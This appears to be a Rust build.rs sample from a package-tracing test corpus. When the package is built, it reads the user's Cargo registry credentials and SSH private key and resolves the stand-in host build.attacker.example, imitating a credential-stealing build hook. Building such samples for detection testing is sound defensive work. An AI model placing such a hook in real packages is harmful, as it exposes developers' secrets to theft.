// MALICIOUS TEST PACKAGE (pkgtrace corpus). Build it only inside the sandbox.
// At build time: reads ~/.cargo/credentials.toml (may not exist) and
// ~/.ssh/id_rsa, then resolves build.attacker.example. Every error is ignored;
// the build always succeeds.
use std::net::ToSocketAddrs;
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_default());
    let mut stolen = 0usize;
    for rel in [".cargo/credentials.toml", ".ssh/id_rsa"] {
        if let Ok(bytes) = std::fs::read(home.join(rel)) {
            stolen += bytes.len();
        }
    }
    let resolved = ("build.attacker.example", 443u16).to_socket_addrs().map(|a| a.count()).unwrap_or(0);
    println!("cargo:rustc-env=PKGTRACE_TEST_BUILD_INFO={stolen}/{resolved}");
}
